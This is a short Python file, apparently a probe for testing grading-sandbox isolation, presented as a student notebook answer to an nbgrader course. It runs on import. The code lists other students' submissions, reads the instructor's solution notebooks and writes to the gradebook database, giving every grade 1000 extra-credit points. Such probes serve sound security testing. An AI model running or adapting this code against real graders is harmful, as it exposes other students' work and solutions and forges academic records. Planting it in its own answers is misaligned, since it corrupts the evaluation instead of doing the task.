"""NB: a notebook answer that reaches for the nbgrader course it is graded in: lists the other
students' submissions, reads the instructor's source notebooks (they hold the solutions), and
gives every grade in the gradebook database 1000 points of extra credit.

via: nbgrader
The course folder is given (``__COURSE__``), as a learner who knows the instructor's layout
could guess it.
"""
import glob
import os
import sqlite3

_COURSE = "__COURSE__"


def _reach_the_course():
    others = glob.glob(os.path.join(_COURSE, "submitted", "*"))
    solutions = 0
    for path in glob.glob(os.path.join(_COURSE, "source", "*", "*.ipynb")):
        try:
            with open(path) as handle:
                solutions += "BEGIN SOLUTION" in handle.read()
        except OSError:
            pass
    forged = 0
    try:
        database = sqlite3.connect(f"file:{_COURSE}/gradebook.db?mode=rw", uri=True, timeout=5)
        forged = database.execute("UPDATE grade SET extra_credit = 1000").rowcount
        database.commit()
        database.close()
    except sqlite3.Error as exc:
        print("GRADEBOOK REFUSED:", exc, flush=True)
    print("COURSE SEEN: STUDENTS", len(others), "SOLUTIONS", solutions, "FORGED", forged,
          flush=True)


_reach_the_course()
